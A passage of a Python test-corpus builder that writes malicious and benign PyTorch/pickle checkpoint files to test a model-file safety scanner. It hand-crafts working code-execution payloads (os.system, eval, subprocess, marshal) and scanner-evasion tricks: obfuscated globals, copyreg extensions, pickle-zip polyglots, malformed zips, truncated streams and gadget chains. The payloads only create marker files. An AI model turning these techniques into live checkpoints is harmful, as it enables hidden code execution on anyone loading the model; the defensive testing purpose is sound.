"""A corpus of malicious and benign checkpoint files for the issue "Safety verdicts that beat
the pickle scanners".

``build(dest, marker_dir)`` writes every case into ``dest`` and returns the list of ``Case``.
Nothing here loads or runs a payload: the files are assembled from pickle opcodes (or
``pickle.dumps`` of ``__reduce__`` objects) and, for the benign cases, from real torch / numpy
objects saved with ``torch.save``. Every malicious payload only creates its own marker file,
``marker_dir / f"{case.name}.marker"`` (one gadget, ``numpy.savez_compressed``, appends
``.npz`` to any name it is given, so that case's marker is ``<name>.marker.npz``; use
``marker_paths``). ``tests/security/test_corpus.py`` proves that every malicious file really runs
under its ``loader`` and that no benign one does.

Facts found while building it (torch 2.13.0, Python 3.11):
- torch's zip reader (miniz) looks records up by their *central directory* name and ignores the
  local header name; Python's zipfile refuses such a member ("File name in directory ... and
  header ... differ").
- With two ``data.pkl`` entries torch reads the *first* one (in either order of the other
  records); Python's ``ZipFile.read(name)`` returns the *last* one.
- torch never checks CRCs; Python's zipfile raises "Bad CRC-32".
- The archive folder name may contain a backslash (``x\\y/data.pkl`` loads); a name without any
  ``/`` (``archive\\data.pkl``) is refused ("file in archive is not in a subdirectory").
- ``torch.load`` reads anything that does not start with ``PK\\x03\\x04`` as the legacy format:
  it first tries the pre-1.0 *tar* format (members ``storages``, ``tensors``, ``pickle``; still
  supported with ``weights_only=False``) and then unpickles the file from offset 0, so a bare
  pickle, or a pickle glued in front of a valid zip, runs before torch notices anything.
- ``torch.utils.serialization.config`` exists in torch 2.13; its ``load_config`` is a bound method
  of a ConfigModule that calls ``pickle.loads`` on bytes.
- ``numpy.lib._datasource._open`` is ``io.open`` re-exported; ``pathlib.attrgetter`` is
  ``operator.attrgetter`` and ``pathlib.os`` is the ``os`` module.
- DTensor checkpoints: ``torch.load(weights_only=True)`` refuses them in a fresh process
  ("``torch.distributed.tensor`` must be imported to load DTensors") and accepts them once that
  module is imported.
"""

from __future__ import annotations

import argparse
import io
import marshal
import os
import pathlib
import pickle
import pickletools
import shlex
import shutil
import struct
import tarfile
import uuid
import warnings
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]
FIXTURES = ROOT / "fixtures"
SGD = FIXTURES / "optim_sgd_momentum.pt"
DTENSOR_FILE = HERE / "fsdp2_dtensor.pt"  # made by tests/security/make_dtensor.py

LEVELS = ("unsafe", "needs-trust", "weights-only")
LOADERS = ("torch", "pickle")


@dataclass(frozen=True)
class Case:
    name: str
    path: Path
    malicious: bool
    expect_level: str  # what ckpttool should say: "unsafe", "needs-trust" or "weights-only"
    offending: str | None  # malicious: the qualified name of the dangerous call to name
    loader: str  # "torch": torch.load(path, weights_only=False); "pickle": pickle.load
    note: str
    # other dangerous globals present in the pickle that a tool may name as well
    also: tuple[str, ...] = ()
    # benign: a module torch.load(weights_only=False) must import to rebuild the objects
    requires: str | None = None
    tags: tuple[str, ...] = field(default=())


def marker_path(marker_dir: Path, name: str) -> Path:
    return marker_dir / f"{name}.marker"


def marker_paths(marker_dir: Path, name: str) -> list[Path]:
    """The files a case's payload may create (numpy.savez_compressed appends .npz)."""
    m = marker_path(marker_dir, name)
    return [m, m.with_name(m.name + ".npz")]


# --------------------------------------------------------------------------------------------
# pickle opcodes (tests/test_hostile.py imports them from here)

def G(module: str, name: str) -> bytes:
    """GLOBAL (text) opcode."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def U(s: str) -> bytes:
    """BINUNICODE."""
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def SU(s: str) -> bytes:
    """SHORT_BINUNICODE (protocol 4)."""
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def S(s: str) -> bytes:
    """Protocol-0 STRING."""
    return b"S" + repr(s).encode() + b"\n"


def V(s: str) -> bytes:
    """Protocol-0 UNICODE (raw-unicode-escape; the strings used here are plain ASCII)."""
    assert "\\" not in s and "\n" not in s
    return b"V" + s.encode("raw_unicode_escape") + b"\n"


def BB(b: bytes) -> bytes:
    """BINBYTES."""
    return b"B" + struct.pack("<I", len(b)) + b


def I(n: int) -> bytes:
    """BININT1 / BININT2 / BININT."""
    if 0 <= n < 256:
        return b"K" + bytes([n])
    if 0 <= n < 65536:
        return b"M" + struct.pack("<H", n)
    return b"J" + struct.pack("<i", n)


def SG(module: str, name: str) -> bytes:
    """STACK_GLOBAL with constant operands (protocol 4)."""
    return SU(module) + SU(name) + b"\x93"


def call(func: bytes, *args: bytes) -> bytes:
    """func(*args) via MARK ... TUPLE REDUCE."""
    return func + b"(" + b"".join(args) + b"tR"


def pylist(*items: bytes) -> bytes:
    return b"](" + b"".join(items) + b"e"


def bare(body: bytes, proto: int = 2) -> bytes:
    """A whole pickle whose result is ``body``'s value."""
    return b"\x80" + bytes([proto]) + body + b"."


def strip_pickle(p: bytes) -> bytes:
    """The opcodes of a whole pickle without PROTO, FRAME and STOP, to embed in another one."""
    ops = list(pickletools.genops(p))
    out = []
    for i, (op, _, pos) in enumerate(ops):
        end = ops[i + 1][2] if i + 1 < len(ops) else len(p)
        if op.name not in ("PROTO", "FRAME", "STOP"):
            out.append(p[pos:end])
    return b"".join(out)


def pickle_end(data: bytes, start: int = 0) -> int:
    """Offset just past the STOP of the pickle starting at ``start``."""
    for op, _, pos in pickletools.genops(io.BytesIO(data[start:])):
        if op.name == "STOP":
            return start + pos + 1
    raise ValueError("no STOP")


class _Reduce:
    """An object that pickles as ``func(*args)``."""

    def __init__(self, func: object, args: tuple[object, ...]) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return self.func, self.args


# --------------------------------------------------------------------------------------------
# zip archives in the torch.save layout, written deterministically

ZIP_DATE = (1980, 1, 1, 0, 0, 0)


def _sgd_members() -> tuple[str, bytes, list[tuple[str, bytes]]]:
    with zipfile.ZipFile(SGD) as z:
        names = z.namelist()
        prefix = names[0].split("/", 1)[0]
        members = [(n.split("/", 1)[1], z.read(n)) for n in names]
    data = dict(members)["data.pkl"]
    assert data[:2] == b"\x80\x02" and data[-1:] == b"."
    return prefix, data, [(n, b) for n, b in members if n != "data.pkl"]


PREFIX, SGD_PKL, SGD_OTHER = _sgd_members()


def zip_bytes(entries: list[tuple[str, bytes]], compress: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buf, "w") as z:
        warnings.simplefilter("ignore")  # "Duplicate name": on purpose in one case
        for name, data in entries:
            zi = zipfile.ZipInfo(name, ZIP_DATE)
            zi.compress_type = compress
            zi.external_attr = 0o644 << 16
            z.writestr(zi, data)
    return buf.getvalue()


def torch_zip(data_pkl: bytes, prefix: str = PREFIX, compress: int = zipfile.ZIP_STORED) -> bytes:
    """A torch.save-style zip: ``prefix/data.pkl`` first, then the SGD file's other records."""
    return zip_bytes([(f"{prefix}/data.pkl", data_pkl)]
                     + [(f"{prefix}/{n}", b) for n, b in SGD_OTHER], compress)


def with_payload(payload: bytes, proto: int = 2) -> bytes:
    """data.pkl for ``{"x": <payload>, "optimizer": <the real SGD state_dict>}``."""
    return (b"\x80" + bytes([proto]) + b"}(" + U("x") + payload + U("optimizer")
            + SGD_PKL[2:-1] + b"u.")


def payload_zip(payload: bytes, proto: int = 2) -> bytes:
    return torch_zip(with_payload(payload, proto))


def _patch(data: bytes, old: bytes, new: bytes, nth: int) -> bytes:
    assert len(old) == len(new)
    b = bytearray(data)
    pos = -1
    for _ in range(nth + 1):
        pos = b.index(old, pos + 1)
    b[pos:pos + len(old)] = new
    return bytes(b)


def _tar(members: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for name, data in members:
            ti = tarfile.TarInfo(name)
            ti.size, ti.mtime, ti.mode = len(data), 0, 0o644
            t.addfile(ti, io.BytesIO(data))
    return buf.getvalue()


# --------------------------------------------------------------------------------------------
# the malicious cases

ROT13 = str.maketrans("abcdefghijklmnopqrstuvwxyz", "nopqrstuvwxyzabcdefghijklm")


class _Builder:
    def __init__(self, dest: Path, marker_dir: Path) -> None:
        self.dest, self.marker_dir = dest, marker_dir.resolve()
        self.cases: list[Case] = []

    def m(self, name: str) -> str:
        return str(marker_path(self.marker_dir, name))

    def touch(self, name: str) -> str:
        return f"touch {shlex.quote(self.m(name))}"

    def py_open(self, name: str) -> str:
        return f"open({self.m(name)!r}, 'w').close()"

    def add(self, name: str, rel: str, data: bytes, *, offending: str | None,
            level: str | None = None, loader: str = "torch", note: str, malicious: bool = True,
            also: tuple[str, ...] = (), requires: str | None = None,
            tags: tuple[str, ...] = ()) -> None:
        assert all(c.name != name for c in self.cases), name
        path = self.dest / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        level = level or ("unsafe" if malicious else "needs-trust")
        assert level in LEVELS and loader in LOADERS
        assert (offending is not None) == malicious
        self.cases.append(Case(name, path, malicious, level, offending, loader, note, also,
                               requires, tags))

    def copy(self, name: str, rel: str, src: Path, **kw) -> None:
        self.add(name, rel, src.read_bytes(), **kw)

    # a payload that runs os.system(touch marker) -----------------------------------------
    def os_system(self, name: str, proto4: bool = False) -> bytes:
        if proto4:
            return call(SG("os", "system"), SU(self.touch(name)))
        return call(G("os", "system"), U(self.touch(name)))


def _malicious(b: _Builder) -> None:
    add, t, m = b.add, b.touch, b.m

    # 1. bare pickles (pickle.dump output). torch.load reads a non-zip as the legacy format and
    #    unpickles the first pickle (the magic number) with plain pickle: the call runs there.
    for name, rel in [("bare_pkl", "x.pkl"), ("bare_pt", "x.pt"), ("bare_bin", "x.bin"),
                      ("bare_pth", "x.pth"), ("bare_ckpt", "x.ckpt"),
                      ("bare_pytorch_model_bin", "hf_repo/pytorch_model.bin")]:
        add(name, rel, pickle.dumps(_Reduce(os.system, (t(name),)), protocol=4),
            offending="posix.system",
            note=f"pickle.dump of a __reduce__ object calling os.system (pickled as "
                 f"posix.system, protocol 4), file named {Path(rel).name}",
            tags=("bare",))
    add("bare_proto0_text", "proto0.pkl",
        b"cos\nsystem\n(" + V(t("bare_proto0_text")) + b"tR.", offending="os.system",
        note="protocol-0 text pickle: GLOBAL os.system, UNICODE, TUPLE, REDUCE", tags=("bare",))
    add("bare_proto2_reduce", "proto2.pkl",
        pickle.dumps(_Reduce(os.system, (t("bare_proto2_reduce"),)), protocol=2),
        offending="posix.system", note="pickle.dumps protocol 2 of os.system", tags=("bare",))
    add("bare_no_extension", "checkpoint",
        bare(b.os_system("bare_no_extension")), offending="os.system",
        note="bare pickle in a file without an extension (scanners that pick files by "
             "extension skip it; torch.load does not care)", tags=("bare", "extension"))
    add("bare_odd_extension", "model.weights",
        bare(b.os_system("bare_odd_extension")), offending="os.system",
        note="bare pickle named model.weights", tags=("bare", "extension"))

    # 2. pickle-then-zip polyglot: torch sees no PK\x03\x04 at offset 0 -> legacy path ->
    #    unpickles the front pickle (zipfile.is_zipfile still says zip: the benign data.pkl)
    add("polyglot_pickle_then_zip", "polyglot.pt",
        bare(b.os_system("polyglot_pickle_then_zip")) + torch_zip(SGD_PKL),
        offending="os.system",
        note="a payload pickle followed by a valid torch.save zip of an SGD state_dict: zip "
             "readers find the zip (central directory at the end), torch unpickles the front",
        tags=("polyglot",))
    legacy = (FIXTURES / "imagenet_style_legacy.pth").read_bytes()
    end0 = pickle_end(legacy)
    magic = "0x1950a86a20f9469cfc6c"
    add("legacy_magic_eval", "legacy_magic_eval.pth",
        bare(call(G("builtins", "eval"),
                  U(f"(__import__('os').system({t('legacy_magic_eval')!r}), {magic})[1]")))
        + legacy[end0:],
        offending="builtins.eval",
        note="legacy (non-zip) torch.save file whose first pickle, the magic number, is "
             "computed by builtins.eval; the file loads normally afterwards",
        tags=("legacy",))
    # the main object pickle of the legacy file runs a call, then goes on with the real value
    parts, pos = [], 0
    for _ in range(5):
        e = pickle_end(legacy, pos)
        parts.append(legacy[pos:e])
        pos = e
    p3 = parts[3]
    evil = b.os_system("legacy_main_pickle") + b"0"
    add("legacy_main_pickle", "legacy_main.pth",
        b"".join(parts[:3]) + p3[:2] + evil + p3[2:] + parts[4] + legacy[pos:],
        offending="os.system",
        note="legacy torch.save file (five stacked pickles): the 4th (main object) pickle "
             "calls os.system and drops the result before the real checkpoint",
        tags=("legacy",))

    # 3. nullifAI: the call runs before the stream breaks
    add("nullifai_bare_truncated", "nullifai_truncated.pkl",
        b"\x80\x02" + b.os_system("nullifai_bare_truncated") + b"0" + b"X\xff\xff\x00\x00abc",
        offending="os.system",
        note="payload call, then a BINUNICODE claiming 65535 bytes with 3 left, no STOP",
        tags=("broken",))
    add("nullifai_bare_badop", "nullifai_badop.pkl",
        b"\x80\x02" + b.os_system("nullifai_bare_badop") + b"0" + b"\xff\xfe" + b".",
        offending="os.system", note="payload call, then an invalid opcode byte 0xff",
        tags=("broken",))
    add("nullifai_zip", "nullifai_zip.pt",
        torch_zip(b"\x80\x02}(" + U("x") + b.os_system("nullifai_zip") + b"\xff"
                  + SGD_PKL[2:-1]),
        offending="os.system",
        note="torch zip whose data.pkl runs os.system then hits an invalid opcode (the rest "
             "of the SGD pickle follows, never reached)",
        tags=("broken", "zip"))

    # 4. STACK_GLOBAL whose operands are computed while unpickling
    def computed(name: str, mod: bytes, attr: bytes, how: str, via: str) -> None:
        add(name, f"{name}.pt",
            payload_zip(mod + attr + b"\x93" + b"(" + SU(t(name)) + b"tR", proto=4),
            offending="os.system", also=(via,),
            note=f"STACK_GLOBAL('os', 'system') whose operands are computed by {how}",
            tags=("stack_global",))
    computed("stack_global_operator_add",
             call(G("operator", "add"), SU("o"), SU("s")),
             call(G("operator", "add"), SU("sys"), SU("tem")),
             "operator.add('o', 's') and operator.add('sys', 'tem')", "operator.add")
    computed("stack_global_codecs_rot13",
             call(G("codecs", "decode"), SU("bf"), SU("rot13")),
             call(G("codecs", "decode"), SU("flfgrz"), SU("rot13")),
             "codecs.decode(..., 'rot13')", "codecs.decode")
    computed("stack_global_str_of_bytes",
             call(G("builtins", "str"), BB(b"os"), SU("ascii")),
             call(G("builtins", "str"), BB(b"system"), SU("ascii")),
             "builtins.str(b'...', 'ascii')", "builtins.str")
    computed("stack_global_b64_decode",
             call(SG("builtins", "bytes.decode"), call(G("base64", "b64decode"), SU("b3M="))),
             call(SG("builtins", "bytes.decode"),
                  call(G("base64", "b64decode"), SU("c3lzdGVt"))),
             "bytes.decode(base64.b64decode(...))", "base64.b64decode")

    # 5. copyreg extension registry: add_extension then EXT1/EXT2/EXT4
    for name, (mod, nm), code, ext in [
            ("copyreg_ext1", ("os", "system"), 241, b"\x82" + bytes([241])),
            ("copyreg_ext2", ("posix", "system"), 0x7A31, b"\x83" + struct.pack("<H", 0x7A31)),
            ("copyreg_ext4", ("subprocess", "getoutput"), 0x1234567,
             b"\x84" + struct.pack("<i", 0x1234567))]:
        body = (call(G("copyreg", "add_extension"), U(mod), U(nm), I(code)) + b"0"
                + ext + b"(" + U(t(name)) + b"tR")
        add(name, f"{name}.pt", payload_zip(body), offending="copyreg.add_extension",
            note=f"copyreg.add_extension({mod!r}, {nm!r}, {code}) then {ext[:1]!r} "
                 f"(EXT{len(ext) - 1 if len(ext) < 5 else 4}) {code} and a call: "
                 f"{mod}.{nm} never appears as a GLOBAL",
            tags=("copyreg",))

    # 6. archive tricks, payload in data.pkl
    name = "zip_bad_crc"
    z = bytearray(payload_zip(b.os_system(name)))
    struct.pack_into("<I", z, 14, 0xDEADBEEF)  # local header of the first record (data.pkl)
    cd = z.find(b"PK\x01\x02")
    struct.pack_into("<I", z, cd + 16, 0xDEADBEEF)
    add(name, "zip_bad_crc.pt", bytes(z), offending="os.system",
        note="data.pkl's CRC-32 is wrong in both headers: torch does not check it, Python's "
             "zipfile raises Bad CRC-32", tags=("zip",))
    name = "zip_name_mismatch"
    add(name, "zip_name_mismatch.pt",
        _patch(payload_zip(b.os_system(name)), f"{PREFIX}/data.pkl".encode(),
               f"{PREFIX}/data.txt".encode(), nth=0),
        offending="os.system",
        note="the payload record is named data.pkl in the central directory (what torch "
             "uses) and data.txt in its local header (Python's zipfile refuses to read it)",
        tags=("zip",))
    name = "zip_duplicate_data_pkl"
    add(name, "zip_duplicate.pt",
        zip_bytes([(f"{PREFIX}/data.pkl", with_payload(b.os_system(name))),
                   (f"{PREFIX}/data.pkl", SGD_PKL)]
                  + [(f"{PREFIX}/{n}", d) for n, d in SGD_OTHER]),
        offending="os.system",
        note="two data.pkl records: torch reads the first (the payload), "
             "ZipFile.read('.../data.pkl') returns the second (the benign SGD state_dict)",
        tags=("zip",))
    name = "zip_backslash_folder"
    add(name, "zip_backslash.pt",
        torch_zip(with_payload(b.os_system(name)), prefix="arch\\ive"),
        offending="os.system",
        note="archive folder named arch\\ive (records arch\\ive/data.pkl ...): torch loads it",
        tags=("zip",))
    name = "zip_deflated"
    add(name, "zip_deflated.pt",
        torch_zip(with_payload(b.os_system(name)), compress=zipfile.ZIP_DEFLATED),
        offending="os.system", note="every record deflated (torch.save stores them)",
        tags=("zip",))
    name = "zip_odd_extension"
    add(name, "model.weights.zipped", payload_zip(b.os_system(name)), offending="os.system",
        note="a torch zip with a payload, named with an unknown extension",
        tags=("zip", "extension"))
    name = "legacy_tar"
    add(name, "legacy_tar.pt",
        _tar([("storages", pickle.dumps(0, 2) + pickle.dumps([], 2)),
              ("tensors", pickle.dumps(0, 2)),
              ("pickle", bare(call(G("os", "system"), U(t(name)))))]),
        offending="os.system",
        note="pre-1.0 tar format (members storages, tensors, pickle) with the payload in "
             "'pickle': torch 2.13 still reads it with weights_only=False",
        tags=("legacy",))

    # names that trainers load with torch.load(weights_only=False)
    name = "hf_training_args_bin"
    add(name, "hf_ckpt/training_args.bin", payload_zip(b.os_system(name)),
        offending="os.system",
        note="a torch zip named training_args.bin (transformers' Trainer resumes it with "
             "weights_only=False)", tags=("zip",))
    name = "lightning_ckpt"
    add(name, "epoch=0-step=3.ckpt",
        payload_zip(call(G("builtins", "exec"), U(b.py_open(name)))),
        offending="builtins.exec", note="a Lightning-named .ckpt whose data.pkl calls exec",
        tags=("zip",))
    name = "dcp_metadata"
    add(name, "dcp_ckpt/.metadata", bare(b.os_system(name), proto=4), offending="os.system",
        loader="pickle",
        note="a torch.distributed.checkpoint folder's .metadata: FileSystemReader."
             "read_metadata calls plain pickle.load on it", tags=("dcp",))
    (b.dest / "dcp_ckpt" / "__0_0.distcp").write_bytes(bytes(16))

    # 7. gadgets through harmless-looking modules
    g = []  # (name, payload, offending, also, note, proto)
    g.append(("gadget_pathlib_attrgetter",
              call(call(G("pathlib", "attrgetter"), U("system")), G("pathlib", "os")),
              "pathlib.attrgetter", ("pathlib.os",),
              "pathlib.attrgetter('system')(pathlib.os) fetches os.system; then it is called"))
    g.append(("gadget_pathlib_os_getattr",
              call(G("builtins", "getattr"), G("pathlib", "os"), U("system")),
              "pathlib.os", ("builtins.getattr",),
              "builtins.getattr(pathlib.os, 'system'), then called"))
    g.append(("gadget_import_dotted_name",
              call(G("torch._utils", "_import_dotted_name"), U("os.system")),
              "torch._utils._import_dotted_name", (),
              "torch._utils._import_dotted_name('os.system') returns os.system, then called"))
    g.append(("gadget_typing_eval_type",
              None, "typing._eval_type", ("typing.ForwardRef",),
              "typing._eval_type(typing.ForwardRef(expr), {}, {}) evals expr "
              "(expr returns int so the type check passes)"))
    g.append(("gadget_load_config", None, "torch.utils.serialization.config.load_config",
              (), "torch.utils.serialization.config.load_config(bytes) calls pickle.loads on "
                  "a nested pickle that calls os.system and returns {}"))
    g.append(("gadget_wave_open", None, "wave.open", (), "wave.open(marker, 'wb') creates it"))
    g.append(("gadget_reconstructor_wave", None, "copyreg._reconstructor",
              ("wave.Wave_write",),
              "copyreg._reconstructor(wave.Wave_write, wave.Wave_write, marker) runs "
              "Wave_write.__init__(marker), which opens it for writing"))
    g.append(("gadget_numpy_savez_compressed", None, "numpy.savez_compressed", (),
              "numpy.savez_compressed(marker, [1]) writes marker + '.npz'"))
    g.append(("gadget_numpy_datasource_open", None, "numpy.lib._datasource._open", (),
              "numpy.lib._datasource._open (io.open) of the marker with mode 'w'"))
    g.append(("gadget_readline_history", None, "readline.write_history_file", (),
              "readline.write_history_file(marker)"))
    g.append(("gadget_uu_encode", None, "uu.encode", (),
              "uu.encode('/dev/null', marker) writes the marker"))

    for name, payload, off, also, note in g:
        mk = m(name)
        if payload is None:
            payload = {
                "gadget_typing_eval_type": call(
                    G("typing", "_eval_type"),
                    call(G("typing", "ForwardRef"),
                         U(f"(__import__('os').system({t(name)!r}), int)[1]")),
                    b"}", b"}"),
                "gadget_load_config": call(
                    G("torch.utils.serialization.config", "load_config"),
                    BB(b"\x80\x02" + b.os_system(name) + b"0}.")),
                "gadget_wave_open": call(G("wave", "open"), U(mk), U("wb")),
                "gadget_reconstructor_wave": call(
                    G("copyreg", "_reconstructor"), G("wave", "Wave_write"),
                    G("wave", "Wave_write"), U(mk)),
                "gadget_numpy_savez_compressed": call(
                    G("numpy", "savez_compressed"), U(mk), pylist(I(1))),
                "gadget_numpy_datasource_open": call(
                    G("numpy.lib._datasource", "_open"), U(mk), U("w")),
                "gadget_readline_history": call(G("readline", "write_history_file"), U(mk)),
                "gadget_uu_encode": call(G("uu", "encode"), U("/dev/null"), U(mk)),
            }[name]
        elif name in ("gadget_pathlib_attrgetter", "gadget_pathlib_os_getattr",
                      "gadget_import_dotted_name"):
            payload = payload + b"(" + U(t(name)) + b"tR"
        add(name, f"{name}.pt", payload_zip(payload), offending=off, also=also, note=note,
            tags=("gadget",))

    # classics
    cls: list[tuple[str, bytes, str, tuple[str, ...], str, int]] = []

    def c(name: str, payload: bytes, off: str, note: str, also: tuple[str, ...] = (),
          proto: int = 2) -> None:
        cls.append((name, payload, off, also, note, proto))

    pyexpr = lambda n: f"__import__('os').system({t(n)!r})"
    c("builtins_eval", call(G("builtins", "eval"), U(pyexpr("builtins_eval"))),
      "builtins.eval", "builtins.eval(\"__import__('os').system(...)\")")
    c("builtins_exec", call(G("builtins", "exec"), U(b.py_open("builtins_exec"))),
      "builtins.exec", "builtins.exec(\"open(marker, 'w').close()\")")
    c("builtin_py2_eval", call(G("__builtin__", "eval"), U(pyexpr("builtin_py2_eval"))),
      "__builtin__.eval", "__builtin__.eval (the Python 2 name; pickle maps it to builtins)")
    c("builtins_compile_exec",
      call(G("builtins", "exec"), call(G("builtins", "compile"),
                                       U(b.py_open("builtins_compile_exec")), U("<x>"),
                                       U("exec"))),
      "builtins.exec", "exec(compile(src, '<x>', 'exec'))", ("builtins.compile",))
    c("builtins_open", call(G("builtins", "open"), U(m("builtins_open")), U("w")),
      "builtins.open", "builtins.open(marker, 'w')")
    c("stack_global_os_system", b.os_system("stack_global_os_system", proto4=True),
      "os.system", "STACK_GLOBAL 'os' 'system' (protocol 4), then a call", proto=4)
    c("stack_global_memo",
      SU("os") + b"\x94" + b"0" + SU("system") + b"\x94" + b"0" + b"h\x00h\x01\x93("
      + SU(t("stack_global_memo")) + b"tR",
      "os.system", "STACK_GLOBAL fed from the memo (MEMOIZE, POP, BINGET)", proto=4)
    c("global_posix_system", call(G("posix", "system"), U(t("global_posix_system"))),
      "posix.system", "GLOBAL posix.system (os.system's real module)")
    c("inst_opcode", b"(" + S(t("inst_opcode")) + b"ios\nsystem\n", "os.system",
      "INST os system (protocol 0 opcode, calls at build time)")
    c("obj_opcode", b"(" + G("os", "system") + U(t("obj_opcode")) + b"o", "os.system",
      "OBJ opcode with GLOBAL os.system")
    c("subprocess_popen", strip_pickle(pickle.dumps(
        _Reduce(__import__("subprocess").Popen, (["touch", m("subprocess_popen")],)),
        protocol=4)), "subprocess.Popen",
      "pickle.dumps protocol 4 of subprocess.Popen(['touch', marker]) (asynchronous)",
      proto=4)
    c("subprocess_check_call",
      call(G("subprocess", "check_call"), pylist(U("touch"), U(m("subprocess_check_call")))),
      "subprocess.check_call", "subprocess.check_call(['touch', marker])")
    c("subprocess_run", call(G("subprocess", "run"),
                             pylist(U("touch"), U(m("subprocess_run")))),
      "subprocess.run", "subprocess.run(['touch', marker])")
    c("subprocess_getoutput", call(G("subprocess", "getoutput"),
                                   U(t("subprocess_getoutput"))),
      "subprocess.getoutput", "subprocess.getoutput('touch marker')")
    c("os_popen", call(G("os", "popen"), U(t("os_popen"))), "os.popen",
      "os.popen('touch marker') (asynchronous)")
    c("os_spawnlp", call(G("os", "spawnlp"), I(os.P_WAIT), U("touch"), U("touch"),
                         U(m("os_spawnlp"))), "os.spawnlp",
      "os.spawnlp(P_WAIT, 'touch', 'touch', marker)")
    c("getattr_import",
      call(call(G("builtins", "getattr"), call(G("builtins", "__import__"), U("os")),
                U("system")), U(t("getattr_import"))),
      "builtins.getattr", "builtins.getattr(builtins.__import__('os'), 'system')(cmd)",
      ("builtins.__import__",))
    c("importlib_import_module",
      call(call(G("builtins", "getattr"), call(G("importlib", "import_module"), U("os")),
                U("system")), U(t("importlib_import_module"))),
      "importlib.import_module", "getattr(importlib.import_module('os'), 'system')(cmd)",
      ("builtins.getattr",))
    c("sys_modules_getitem",
      call(call(G("builtins", "getattr"), call(G("operator", "getitem"), G("sys", "modules"),
                                               U("os")), U("system")),
           U(t("sys_modules_getitem"))),
      "sys.modules", "getattr(operator.getitem(sys.modules, 'os'), 'system')(cmd)",
      ("builtins.getattr", "operator.getitem"))
    c("functools_partial",
      call(call(G("functools", "partial"), G("os", "system"), U(t("functools_partial")))),
      "os.system", "functools.partial(os.system, cmd)()", ("functools.partial",))
    c("map_list", call(G("builtins", "list"), call(G("builtins", "map"), G("os", "system"),
                                                   pylist(U(t("map_list"))))),
      "os.system", "list(map(os.system, [cmd])): os.system passed as a value",
      ("builtins.map",))
    c("codecs_rot13_command",
      call(G("os", "system"), call(G("codecs", "decode"),
                                   U(t("codecs_rot13_command").translate(ROT13)),
                                   U("rot13"))),
      "os.system", "os.system(codecs.decode(<rot13 command>, 'rot13'))", ("codecs.decode",))
    c("operator_methodcaller",
      call(call(G("operator", "methodcaller"), U("system"), U(t("operator_methodcaller"))),
           G("posixpath", "os")),
      "operator.methodcaller", "operator.methodcaller('system', cmd)(posixpath.os)",
      ("posixpath.os",))
    c("operator_attrgetter",
      call(call(call(G("operator", "attrgetter"), U("system")), G("posixpath", "os")),
           U(t("operator_attrgetter"))),
      "operator.attrgetter", "operator.attrgetter('system')(posixpath.os)(cmd)",
      ("posixpath.os",))
    c("runpy_run_code", call(G("runpy", "_run_code"),
                             U(f"import os; os.system({t('runpy_run_code')!r})"), b"}"),
      "runpy._run_code", "runpy._run_code(source, {})")
    c("cprofile_run", call(G("cProfile", "run"), U(b.py_open("cprofile_run"))),
      "cProfile.run", "cProfile.run(source) execs it (prints a profile)")
    c("timeit_timeit", call(G("timeit", "timeit"), U(b.py_open("timeit_timeit")), U("pass"),
                            G("time", "perf_counter"), I(1)),
      "timeit.timeit", "timeit.timeit(stmt, 'pass', time.perf_counter, 1) execs stmt",
      ("time.perf_counter",))
    c("pydoc_pipepager", call(G("pydoc", "pipepager"), U(""), U(t("pydoc_pipepager"))),
      "pydoc.pipepager", "pydoc.pipepager('', cmd) runs cmd in a shell")
    c("numpy_runstring", call(G("numpy.testing._private.utils", "runstring"),
                              U(b.py_open("numpy_runstring")), b"}"),
      "numpy.testing._private.utils.runstring", "numpy's test helper runstring(src, {}) execs")
    c("marshal_function",
      call(call(G("types", "FunctionType"),
                call(G("marshal", "loads"),
                     BB(marshal.dumps(compile(b.py_open("marshal_function"), "<x>",
                                              "exec")))),
                b"}")),
      "types.FunctionType",
      "types.FunctionType(marshal.loads(<code object>), {})() (Python 3.11 bytecode)",
      ("marshal.loads",))
    c("pathlib_path_touch", call(SG("pathlib", "Path.touch"),
                                 call(G("pathlib", "Path"), U(m("pathlib_path_touch")))),
      "pathlib.Path.touch", "STACK_GLOBAL pathlib Path.touch on Path(marker)", proto=4)
    c("pathlib_write_text", call(SG("pathlib", "Path.write_text"),
                                 call(G("pathlib", "Path"), U(m("pathlib_write_text"))),
                                 SU("x")),
      "pathlib.Path.write_text", "Path.write_text(Path(marker), 'x')", proto=4)
    c("io_open", call(G("io", "open"), U(m("io_open")), U("w")), "io.open",
      "io.open(marker, 'w')")
    c("codecs_open", call(G("codecs", "open"), U(m("codecs_open")), U("w")), "codecs.open",
      "codecs.open(marker, 'w')")
    c("logging_filehandler", call(G("logging", "FileHandler"), U(m("logging_filehandler"))),
      "logging.FileHandler", "logging.FileHandler(marker) opens it for appending")
    c("zipfile_zipfile", call(G("zipfile", "ZipFile"), U(m("zipfile_zipfile")), U("w")),
      "zipfile.ZipFile", "zipfile.ZipFile(marker, 'w')")
    c("tarfile_open", call(G("tarfile", "open"), U(m("tarfile_open")), U("w")),
      "tarfile.open", "tarfile.open(marker, 'w')")
    c("gzip_open", call(G("gzip", "open"), U(m("gzip_open")), U("wb")), "gzip.open",
      "gzip.open(marker, 'wb')")
    c("sqlite3_connect", call(G("sqlite3", "connect"), U(m("sqlite3_connect"))),
      "sqlite3.connect", "sqlite3.connect(marker) creates the database file")
    c("shutil_copyfile", call(G("shutil", "copyfile"), U("/dev/null"),
                              U(m("shutil_copyfile"))),
      "shutil.copyfile", "shutil.copyfile('/dev/null', marker)")
    c("numpy_savetxt", call(G("numpy", "savetxt"), U(m("numpy_savetxt")), pylist(I(1))),
      "numpy.savetxt", "numpy.savetxt(marker, [1])")
    c("numpy_memmap", call(G("numpy", "memmap"), U(m("numpy_memmap")), U("uint8"), U("w+"),
                           I(0), b"(" + I(1) + b"t"),
      "numpy.memmap", "numpy.memmap(marker, 'uint8', 'w+', 0, (1,)) creates it")
    c("numpy_ndarray_tofile", call(SG("numpy", "ndarray.tofile"),
